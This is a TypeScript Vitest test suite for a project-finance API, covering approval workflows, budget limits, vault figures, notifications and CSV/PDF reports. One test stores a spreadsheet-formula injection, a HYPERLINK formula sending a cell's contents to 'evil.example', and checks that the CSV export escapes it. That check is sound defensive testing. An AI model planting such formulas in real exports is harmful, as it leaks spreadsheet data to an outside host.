import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../helpers/test-app';
import { multipart } from '../helpers/multipart';

/**
 * Project finance through the API: the request workflow with committee members of each kind,
 * its refusals, frozen items, and the vault and budget-line figures after each step.
 */
let t: TestApp;
const admin = () => ({ authorization: t.adminToken });
beforeAll(async () => {
  t = await startTestApp();
});
afterAll(async () => t.stop());

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- JSON bodies, read field by field in assertions
type Json = Record<string, any>;
type Headers = Record<string, string>;

async function call(method: string, url: string, payload?: Json, headers: Headers = admin()) {
  const res = await t.app.inject({ method: method as 'GET', url, headers, payload });
  return { status: res.statusCode, body: (res.body ? res.json() : {}) as Json };
}
const rec = (c: string, id = '') => `/api/collections/${c}/records${id ? `/${id}` : ''}`;
const post = (c: string, p: Json, h: Headers = admin()) => call('POST', rec(c), p, h);
const patch = (c: string, id: string, p: Json, h: Headers = admin()) =>
  call('PATCH', rec(c, id), p, h);
const get = (c: string, id: string, h: Headers = admin()) => call('GET', rec(c, id), undefined, h);
const del = (c: string, id: string, h: Headers = admin()) =>
  call('DELETE', rec(c, id), undefined, h);
const list = async (c: string, filter: string, h: Headers = admin()) =>
  (await call('GET', `${rec(c)}?perPage=200&filter=${encodeURIComponent(filter)}`, undefined, h))
    .body;

/** Attaches a small PDF to a record's file field. */
async function attach(c: string, id: string, field: string, h: Headers) {
  const body = await multipart([
    [
      field,
      { filename: 'bill.pdf', data: Buffer.from('%PDF-1.4\n%bill\n'), type: 'application/pdf' },
    ],
  ]);
  const res = await t.app.inject({
    method: 'PATCH',
    url: rec(c, id),
    headers: { ...h, ...body.headers },
    payload: body.payload,
  });
  return { status: res.statusCode, body: res.json() as Json };
}

/** The vault's balance, the sum of its entries, and what the project holds, read from the database. */
async function vaultFigures(vaultId: string, project: string) {
  const { rows } = await t.db.query<{ balance: string; entries: string; held: string }>(
    `SELECT (SELECT "balance" FROM "vaults" WHERE "id" = $1)::text AS balance,
            COALESCE((SELECT sum("amount") FROM "ledger_entries" WHERE "vault" = $1), 0)::text AS entries,
            (COALESCE((SELECT sum("amount") FROM "financial_requests" WHERE "project" = $2 AND "status" = 'APPROVED'), 0)
             + COALESCE((SELECT sum("price") FROM "purchases" WHERE "project" = $2 AND "status" = 'APPROVED'), 0))::text AS held`,
    [vaultId, project],
  );
  return {
    balance: Number(rows[0].balance),
    entries: Number(rows[0].entries),
    held: Number(rows[0].held),
  };
}
async function line(id: string) {
  const { body } = await get('project_budget_lines', id);
  return { budget: body.budget, used: body.used_amount, held: body.held_amount };
}

type Person = { id: string; token: string; h: Headers };
async function person(): Promise<Person> {
  const p = await t.employeeWith(['projects.read', 'project_finance.read']);
  return { ...p, h: { authorization: p.token } };
}

/** A funded project with two budget lines and a committee of each kind of member. */
async function setup(funds = 1200) {
  const project = (await post('projects', { title: 'Well drilling' })).body;
  const { items: vaults } = await list('vaults', `project = "${project.id}"`);
  const vaultId = vaults[0].id as string;
  if (funds > 0)
    expect(
      (
        await post('donations', {
          donor: 'Water Trust',
          amount: funds + 10,
          transaction_fees: 10,
          received_on: '2026-02-01',
          project: project.id,
        })
      ).status,
    ).toBe(200);
  const lineA = (
    await post('project_budget_lines', { project: project.id, title: 'Drilling', budget: 1000 })
  ).body;
  const lineB = (
    await post('project_budget_lines', { project: project.id, title: 'Pumps', budget: 500 })
  ).body;
  const creator = await person();
  const approver = await person();
  const outsider = await person();
  for (const [p, flags] of [
    [creator, { can_create: true, can_update_status: false }],
    [approver, { can_create: false, can_update_status: true }],
  ] as const) {
    for (const c of ['project_financial_committees', 'project_purchases_committees'])
      expect((await post(c, { project: project.id, employee: p.id, ...flags })).status).toBe(200);
  }
  return { project: project.id as string, vaultId, lineA, lineB, creator, approver, outsider };
}

async function request(project: string, h: Headers, title = 'Drilling crew and pumps') {
  const res = await post('financial_requests', { project, title }, h);
  expect(res.status).toBe(200);
  return res.body;
}
async function item(requestId: string, budgetLine: string, h: Headers, extra: Json = {}) {
  return post(
    'financial_request_items',
    {
      financial_request: requestId,
      budget_line: budgetLine,
      title: 'Item',
      quantity: 1,
      currency: 'USD',
      unit_price: 100,
      exchange_rate: 1,
      ...extra,
    },
    h,
  );
}

describe('financial requests', () => {
  it('runs PENDING -> APPROVED -> BILL_APPROVED with the figures right after each step', async () => {
    const s = await setup();
    expect(await vaultFigures(s.vaultId, s.project)).toEqual({
      balance: 1200,
      entries: 1200,
      held: 0,
    });

    // Only members with can_create may create.
    expect(
      (await post('financial_requests', { project: s.project, title: 'No seat' }, s.outsider.h))
        .status,
    ).toBe(403);
    expect(
      (await post('financial_requests', { project: s.project, title: 'No seat' })).status,
    ).toBe(403);
    expect(
      (await post('financial_requests', { project: s.project, title: 'Flag' }, s.approver.h))
        .status,
    ).toBe(403);
    const r = await request(s.project, s.creator.h);
    expect(r.status).toBe('PENDING');
    expect(r.creator).toBe(s.creator.id);
    expect(r.amount).toBe(0);

    // Two items in two currencies: the server prices them; the request's amount is their SUM.
    const i1 = await item(r.id, s.lineA.id, s.creator.h, {
      quantity: 2,
      unit_price: 150,
      total_price: 1,
    });
    expect(i1.status).toBe(200);
    expect(i1.body.total_price).toBe(300);
    expect(i1.body.base_amount).toBe(300);
    const i2 = await item(r.id, s.lineB.id, s.creator.h, {
      quantity: 3,
      currency: 'EUR',
      unit_price: 100,
      exchange_rate: 0.9,
      base_amount: 1,
    });
    expect(i2.status).toBe(200);
    expect(i2.body.total_price).toBe(300);
    expect(i2.body.base_amount).toBe(333.33);
    // The old overview summed with `=` instead of `+=`: the amount would be the last item only.
    expect((await get('financial_requests', r.id)).body.amount).toBe(633.33);

    // An item on another project's budget line is refused.
    const other = await setup(0);
    expect((await item(r.id, other.lineA.id, s.creator.h)).status).toBe(400);

    // Wrong flag: 403; skipping a state: 400.
    expect(
      (await patch('financial_requests', r.id, { status: 'APPROVED' }, s.creator.h)).status,
    ).toBe(403);
    expect(
      (await patch('financial_requests', r.id, { status: 'APPROVED' }, s.outsider.h)).status,
    ).toBe(403);
    expect((await patch('financial_requests', r.id, { status: 'APPROVED' })).status).toBe(403);
    const skip = await patch('financial_requests', r.id, { status: 'BILL_APPROVED' }, s.approver.h);
    expect(skip.status).toBe(400);
    expect(skip.body.data.status.code).toBe('validation_invalid_transition');

    const approved = await patch('financial_requests', r.id, { status: 'APPROVED' }, s.approver.h);
    expect(approved.status).toBe(200);
    expect(approved.body.amount).toBe(633.33);
    expect(await line(s.lineA.id)).toEqual({ budget: 1000, used: 0, held: 300 });
    expect(await line(s.lineB.id)).toEqual({ budget: 500, used: 0, held: 333.33 });
    expect(await vaultFigures(s.vaultId, s.project)).toEqual({
      balance: 1200,
      entries: 1200,
      held: 633.33,
    });

    // Items of an approved request are frozen; their bill details are not.
    const frozen = await patch('financial_request_items', i1.body.id, { quantity: 5 }, s.creator.h);
    expect(frozen.status).toBe(400);
    expect(frozen.body.data.quantity.code).toBe('validation_locked');
    expect((await item(r.id, s.lineA.id, s.creator.h)).status).toBe(400);
    expect((await del('financial_request_items', i1.body.id, s.creator.h)).status).toBe(400);
    expect(
      (await patch('financial_request_items', i1.body.id, { bill_number: 'B-17' }, s.creator.h))
        .status,
    ).toBe(200);
    expect(
      (await patch('financial_requests', r.id, { title: 'Renamed' }, s.creator.h)).status,
    ).toBe(400);

    // Bills are required before bill approval.
    const noBills = await patch(
      'financial_requests',
      r.id,
      { status: 'BILL_APPROVED' },
      s.approver.h,
    );
    expect(noBills.status).toBe(400);
    expect(noBills.body.data.bills.code).toBe('validation_bills_required');
    expect((await attach('financial_requests', r.id, 'bills', s.creator.h)).status).toBe(200);

    const paid = await patch('financial_requests', r.id, { status: 'BILL_APPROVED' }, s.approver.h);
    expect(paid.status).toBe(200);
    expect(paid.body.payment_entry).toBeTruthy();
    expect(await line(s.lineA.id)).toEqual({ budget: 1000, used: 300, held: 0 });
    expect(await line(s.lineB.id)).toEqual({ budget: 500, used: 333.33, held: 0 });
    expect(await vaultFigures(s.vaultId, s.project)).toEqual({
      balance: 566.67,
      entries: 566.67,
      held: 0,
    });

    // Nothing moves after BILL_APPROVED; a paid request is not deleted.
    expect(
      (await patch('financial_requests', r.id, { status: 'DECLINED' }, s.approver.h)).status,
    ).toBe(400);
    expect((await del('financial_requests', r.id, s.creator.h)).status).toBe(400);

    // Audited under finance and projects.
    const { rows } = await t.db.query<{ action: string; categories: string[] }>(
      `SELECT "action", "categories" FROM "user_activities" WHERE "record" = $1 ORDER BY "_rowid"`,
      [r.id],
    );
    expect(rows.map((x) => x.action)).toEqual(['CREATE', 'UPDATE', 'UPDATE', 'UPDATE']);
    expect(rows[0].categories).toEqual(expect.arrayContaining(['finance', 'projects']));

    // The approver was told the request waited for them; the creator of each status move.
    // (the one who approved is not told about their own move).
    const forApprover = await list('notifications', '', s.approver.h);
    expect(forApprover.items.map((n: Json) => n.title)).toEqual([
      'Financial request to review: Drilling crew and pumps',
    ]);
    const forCreator = await list('notifications', '', s.creator.h);
    expect(forCreator.items.map((n: Json) => n.title).sort()).toEqual([
      'Financial request approved: Drilling crew and pumps',
      'Financial request bill approved: Drilling crew and pumps',
    ]);
  });

  it('refuses overspending a budget line or the vault, saying by how much', async () => {
    const s = await setup(700);
    // Line B (500): 450 on hold leaves 50; a request of 80 is 30 over.
    const first = await request(s.project, s.creator.h, 'First pumps');
    await item(first.id, s.lineB.id, s.creator.h, { unit_price: 450 });
    expect(
      (await patch('financial_requests', first.id, { status: 'APPROVED' }, s.approver.h)).status,
    ).toBe(200);
    const second = await request(s.project, s.creator.h, 'More pumps');
    await item(second.id, s.lineB.id, s.creator.h, { unit_price: 80 });
    const overLine = await patch(
      'financial_requests',
      second.id,
      { status: 'APPROVED' },
      s.approver.h,
    );
    expect(overLine.status).toBe(400);
    expect(overLine.body.data.status.code).toBe('validation_over_budget_line');
    expect(overLine.body.message).toContain('by 30.00');
    expect(await line(s.lineB.id)).toEqual({ budget: 500, used: 0, held: 450 });

    // The vault: 700 with 450 held leaves 250 free; 300 on line A is 50 over the free balance.
    const third = await request(s.project, s.creator.h, 'Drill bits');
    await item(third.id, s.lineA.id, s.creator.h, { unit_price: 300 });
    const overVault = await patch(
      'financial_requests',
      third.id,
      { status: 'APPROVED' },
      s.approver.h,
    );
    expect(overVault.status).toBe(400);
    expect(overVault.body.data.status.code).toBe('validation_over_free_balance');
    expect(overVault.body.message).toContain('by 50.00');

    // Declining an approved request releases its hold; then the vault has room again.
    expect(
      (await patch('financial_requests', first.id, { status: 'DECLINED' }, s.approver.h)).status,
    ).toBe(200);
    expect(await line(s.lineB.id)).toEqual({ budget: 500, used: 0, held: 0 });
    expect(
      (await patch('financial_requests', third.id, { status: 'APPROVED' }, s.approver.h)).status,
    ).toBe(200);
    expect(await vaultFigures(s.vaultId, s.project)).toEqual({
      balance: 700,
      entries: 700,
      held: 300,
    });
    // A declined request is final; a pending one without items cannot be approved.
    expect(
      (await patch('financial_requests', first.id, { status: 'APPROVED' }, s.approver.h)).status,
    ).toBe(400);
    const empty = await request(s.project, s.creator.h, 'Empty');
    expect(
      (await patch('financial_requests', empty.id, { status: 'APPROVED' }, s.approver.h)).status,
    ).toBe(400);
    // Declined from PENDING: allowed, and it may then be deleted by its creator.
    expect(
      (await patch('financial_requests', empty.id, { status: 'DECLINED' }, s.approver.h)).status,
    ).toBe(200);
    expect((await del('financial_requests', empty.id, s.creator.h)).status).toBe(204);
  });

  it('keeps budget lines above what they use and hold', async () => {
    const s = await setup();
    const r = await request(s.project, s.creator.h);
    await item(r.id, s.lineA.id, s.creator.h, { unit_price: 400 });
    expect(
      (await patch('financial_requests', r.id, { status: 'APPROVED' }, s.approver.h)).status,
    ).toBe(200);
    const low = await patch('project_budget_lines', s.lineA.id, { budget: 399.99 });
    expect(low.status).toBe(400);
    expect(low.body.data.budget.code).toBe('validation_below_used');
    expect(
      (
        await patch('project_budget_lines', s.lineA.id, {
          budget: 400,
          used_amount: 0,
          held_amount: 0,
        })
      ).status,
    ).toBe(200);
    expect(await line(s.lineA.id)).toEqual({ budget: 400, used: 0, held: 400 });
    expect((await del('project_budget_lines', s.lineA.id)).status).toBe(400);
  });
});

describe('comments, purchases and bank checks', () => {
  it('lets committee members comment as themselves', async () => {
    const s = await setup();
    const r = await request(s.project, s.creator.h);
    const refused = await post(
      'financial_request_comments',
      { request: r.id, stage: 'REVIEW', comment: '<p>x</p>' },
      s.outsider.h,
    );
    expect(refused.status).toBe(403);
    const c = await post(
      'financial_request_comments',
      {
        request: r.id,
        stage: 'REVIEW',
        comment: '<p>Check the pump price.</p>',
        employee: s.creator.id,
      },
      s.approver.h,
    );
    expect(c.status).toBe(200);
    expect(c.body.employee).toBe(s.approver.id);
    // Someone else's comment is neither edited nor deleted.
    expect(
      (await patch('financial_request_comments', c.body.id, { comment: '<p>no</p>' }, s.creator.h))
        .status,
    ).toBe(404);
    expect(
      (await patch('financial_request_comments', c.body.id, { stage: 'APPROVAL' }, s.approver.h))
        .status,
    ).toBe(200);
  });

  it('runs purchases through the purchases committee, paying from the vault', async () => {
    const s = await setup(500);
    const p = await post(
      'purchases',
      { project: s.project, title: 'Generator', price: 350 },
      s.creator.h,
    );
    expect(p.status).toBe(200);
    expect(p.body.status).toBe('PENDING');
    // A financial-committee-only approver cannot move a purchase.
    const finOnly = await person();
    await post('project_financial_committees', {
      project: s.project,
      employee: finOnly.id,
      can_update_status: true,
    });
    expect((await patch('purchases', p.body.id, { status: 'APPROVED' }, finOnly.h)).status).toBe(
      403,
    );
    expect((await patch('purchases', p.body.id, { status: 'APPROVED' }, s.approver.h)).status).toBe(
      200,
    );
    expect(await vaultFigures(s.vaultId, s.project)).toEqual({
      balance: 500,
      entries: 500,
      held: 350,
    });
    expect((await patch('purchases', p.body.id, { price: 10 }, s.creator.h)).status).toBe(400);
    const second = await post(
      'purchases',
      { project: s.project, title: 'Fuel', price: 200 },
      s.creator.h,
    );
    const over = await patch('purchases', second.body.id, { status: 'APPROVED' }, s.approver.h);
    expect(over.status).toBe(400);
    expect(over.body.message).toContain('by 50.00');
    expect(
      (await patch('purchases', p.body.id, { status: 'BILL_APPROVED' }, s.approver.h)).status,
    ).toBe(400);
    expect((await attach('purchases', p.body.id, 'bills', s.creator.h)).status).toBe(200);
    expect(
      (await patch('purchases', p.body.id, { status: 'BILL_APPROVED' }, s.approver.h)).status,
    ).toBe(200);
    expect(await vaultFigures(s.vaultId, s.project)).toEqual({
      balance: 150,
      entries: 150,
      held: 0,
    });
    const c = await post(
      'purchase_comments',
      { purchase: p.body.id, stage: 'BILL_APPROVAL', comment: '<p>ok</p>' },
      s.approver.h,
    );
    expect(c.status).toBe(200);
  });

  it('records bank checks with the project finance permissions', async () => {
    const s = await setup(0);
    const check = {
      project: s.project,
      beneficiary: 'Pump Co',
      serial_number: 'CHK-001',
      branch: 'City Bank / Main',
      amount: 120.5,
      date: '2026-03-01',
    };
    expect((await post('bank_checks', check, s.creator.h)).status).toBe(403);
    const ok = await post('bank_checks', check);
    expect(ok.status).toBe(200);
    expect(ok.body.amount).toBe(120.5);
    expect((await post('bank_checks', { ...check, serial_number: 'ab' })).status).toBe(400);
  });
});

describe('notifications', () => {
  it('belong to their recipient only, and reach realtime after the commit only', async () => {
    const s = await setup();
    const events: string[] = [];
    const off = t.onRecordEvent((e) => {
      if (e.collection === 'notifications') events.push(`${e.action} ${String(e.row.recipient)}`);
    });
    // A refused move notifies nobody, in the database or over realtime.
    const refused = await post(
      'financial_requests',
      { project: s.project, title: 'Not allowed' },
      s.outsider.h,
    );
    expect(refused.status).toBe(403);
    expect(events).toEqual([]);
    await request(s.project, s.creator.h);
    off();
    expect(events).toEqual([`create ${s.approver.id}`]);
    const mine = await list('notifications', '', s.approver.h);
    expect(mine.items).toHaveLength(1);
    const n = mine.items[0];
    expect(n.read).toBe(false);
    expect(n.link).toContain(`/projects/${s.project}`);
    expect((await list('notifications', '', s.outsider.h)).items).toHaveLength(0);
    expect((await get('notifications', n.id, s.outsider.h)).status).toBe(404);
    expect((await patch('notifications', n.id, { read: true }, s.outsider.h)).status).toBe(404);
    expect(
      (await post('notifications', { recipient: s.outsider.id, title: 'Fake' }, s.outsider.h))
        .status,
    ).toBe(403);
    const read = await patch('notifications', n.id, { read: true }, s.approver.h);
    expect(read.status).toBe(200);
    expect(read.body.read).toBe(true);
    // Only `read` is the recipient's to change.
    expect((await patch('notifications', n.id, { title: 'Changed' }, s.approver.h)).status).toBe(
      400,
    );
    expect((await get('notifications', n.id, s.approver.h)).body.title).toBe(n.title);
  });
});

describe('activity finance', () => {
  it('books an activity\u2019s donations and expenses in its project\u2019s vault', async () => {
    const s = await setup(0);
    const act = (await post('projects_activities', { project: s.project, title: 'Workshop' })).body;
    const d = await post('donations', {
      donor: 'Local council',
      amount: 80,
      received_on: '2026-03-02',
      activity: act.id,
    });
    expect(d.status).toBe(200);
    expect(d.body.vault).toBe(s.vaultId);
    expect(d.body.project).toBe(s.project);
    const main = (await post('vaults', { title: 'Main', kind: 'main', active: true })).body;
    const wrong = await post('expenses', {
      beneficiary: 'Caterer',
      amount: 30,
      date: '2026-03-03',
      vault: main.id,
      activity: act.id,
    });
    expect(wrong.status).toBe(400);
    const e = await post('expenses', {
      beneficiary: 'Caterer',
      amount: 30,
      date: '2026-03-03',
      vault: s.vaultId,
      activity: act.id,
    });
    expect(e.status).toBe(200);
    expect(e.body.project).toBe(s.project);
    const approver = { authorization: t.approverToken };
    expect((await patch('expenses', e.body.id, { status: 'approved' }, approver)).status).toBe(200);
    expect((await patch('expenses', e.body.id, { status: 'paid' })).status).toBe(200);
    expect(await vaultFigures(s.vaultId, s.project)).toEqual({ balance: 50, entries: 50, held: 0 });
  });
});

describe('overview and report', () => {
  it('sums the project vault, holds and budget, and reports entries for a period as CSV', async () => {
    const s = await setup(1000);
    const r = await request(s.project, s.creator.h);
    await item(r.id, s.lineA.id, s.creator.h, { unit_price: 120 });
    await item(r.id, s.lineB.id, s.creator.h, { unit_price: 80 });
    await patch('financial_requests', r.id, { status: 'APPROVED' }, s.approver.h);
    await attach('financial_requests', r.id, 'bills', s.creator.h);
    expect(
      (await patch('financial_requests', r.id, { status: 'BILL_APPROVED' }, s.approver.h)).status,
    ).toBe(200);
    const p = await post(
      'purchases',
      { project: s.project, title: 'Tools', price: 50 },
      s.creator.h,
    );
    await patch('purchases', p.body.id, { status: 'APPROVED' }, s.approver.h);
    await post('purchases', { project: s.project, title: 'Later', price: 30 }, s.creator.h);

    expect(
      (await call('GET', `/api/projects/${s.project}/finance/overview`, undefined, s.outsider.h))
        .status,
    ).toBe(200);
    const noRight = await t.employeeWith(['projects.read']);
    expect(
      (
        await call('GET', `/api/projects/${s.project}/finance/overview`, undefined, {
          authorization: noRight.token,
        })
      ).status,
    ).toBe(403);
    const o = (await call('GET', `/api/projects/${s.project}/finance/overview`)).body;
    expect(o).toMatchObject({
      donations: 1010,
      fees: 10,
      used: 200,
      on_hold: 50,
      remaining: 800,
      free: 750,
      requests: { total: 200, bill_approved: 200, count: 1 },
      purchases: { total: 80, bill_approved: 0, count: 2 },
      budget: { total: 1500, used: 200, held: 0, remaining: 1300 },
    });
    // The organisation's vault summary counts the project's holds too.
    const summary = (await call('GET', '/api/finance/vaults/summary')).body.items.find(
      (v: Json) => v.id === s.vaultId,
    );
    expect(summary).toMatchObject({ balance: 800, on_hold: 50, free: 750 });

    const report = (await call('GET', `/api/projects/${s.project}/finance/report?from=2026-01-01`))
      .body;
    expect(report.items.map((i: Json) => i.amount)).toEqual([1010, -10, -200]);
    expect(report.closing_balance).toBe(800);
    const csv = await t.app.inject({
      method: 'GET',
      url: `/api/projects/${s.project}/finance/report?format=csv`,
      headers: admin(),
    });
    expect(csv.headers['content-type']).toContain('text/csv');
    expect(csv.body.split('\r\n')[0]).toBe('date,kind,statement,amount,running_balance');
    expect(csv.body).toContain('closing_balance,,,800.00');
    expect(
      (await call('GET', `/api/projects/${s.project}/finance/report?from=01/02/2026`)).status,
    ).toBe(400);
  });

  it('writes a statement that a spreadsheet would run as text in the CSV report', async () => {
    const s = await setup(1000);
    const other = (await post('vaults', { title: 'Receipts vault', kind: 'main', active: true }))
      .body;
    const formula = '-1+HYPERLINK("http://evil.example/?"&A1,"Open receipt")';
    const transfer = await post('vault_transfers', {
      from_vault: s.vaultId,
      to_vault: other.id,
      amount: 5,
      date: '2026-03-01',
      statement: formula,
    });
    expect(transfer.status, JSON.stringify(transfer.body)).toBe(200);
    const csv = await t.app.inject({
      method: 'GET',
      url: `/api/projects/${s.project}/finance/report?format=csv`,
      headers: admin(),
    });
    const line = csv.body.split('\r\n').find((l) => l.includes('HYPERLINK'));
    expect(line).toBe(
      `2026-03-01,transfer,"'-1+HYPERLINK(""http://evil.example/?""&A1,""Open receipt"")",-5.00,995.00`,
    );
  });
});

describe('financial report PDF', () => {
  it('prints the period in English and Arabic for finance readers; refuses others and bad dates', async () => {
    const { execFileSync } = await import('node:child_process');
    const { mkdtempSync, writeFileSync } = await import('node:fs');
    const { join } = await import('node:path');
    const { tmpdir } = await import('node:os');
    const dir = mkdtempSync(join(tmpdir(), 'finance-report-'));
    const textOf = (pdf: Buffer) => {
      const file = join(dir, `${Math.random()}.pdf`);
      writeFileSync(file, pdf);
      return execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8' });
    };
    const s = await setup(1000);
    const url = `/api/projects/${s.project}/finance/report.pdf?from=2026-01-01`;
    const pdf = await t.app.inject({
      method: 'GET',
      url,
      headers: { authorization: s.outsider.h.authorization },
    });
    expect(pdf.statusCode).toBe(200);
    expect(pdf.headers['content-type']).toBe('application/pdf');
    expect(pdf.headers['content-disposition']).toContain('financial-report-2026-01-01-today.pdf');
    const text = textOf(pdf.rawPayload);
    expect(text).toContain('Project Financial Report');
    // The setup's donation of 1,010 and its 10 in fees: the closing balance is 1,000.
    expect(text).toContain('1,010.00 USD');
    expect(text).toContain('Transaction fees');
    expect(text).toContain('Closing balance');
    expect(text).toContain('1,000.00 USD');
    const ar = await t.app.inject({ method: 'GET', url: `${url}&lang=ar`, headers: admin() });
    expect(ar.statusCode).toBe(200);
    expect(textOf(ar.rawPayload)).toContain('1,010.00 USD');

    expect((await t.app.inject({ method: 'GET', url })).statusCode).toBe(401);
    const noRight = await t.employeeWith(['projects.read']);
    expect(
      (await t.app.inject({ method: 'GET', url, headers: { authorization: noRight.token } }))
        .statusCode,
    ).toBe(403);
    expect(
      (
        await t.app.inject({
          method: 'GET',
          url: `/api/projects/${s.project}/finance/report.pdf?to=31-12-2026`,
          headers: admin(),
        })
      ).statusCode,
    ).toBe(400);
    expect(
      (
        await t.app.inject({
          method: 'GET',
          url: '/api/projects/nosuchproject1/finance/report.pdf',
          headers: admin(),
        })
      ).statusCode,
    ).toBe(404);
  }, 60_000);
});
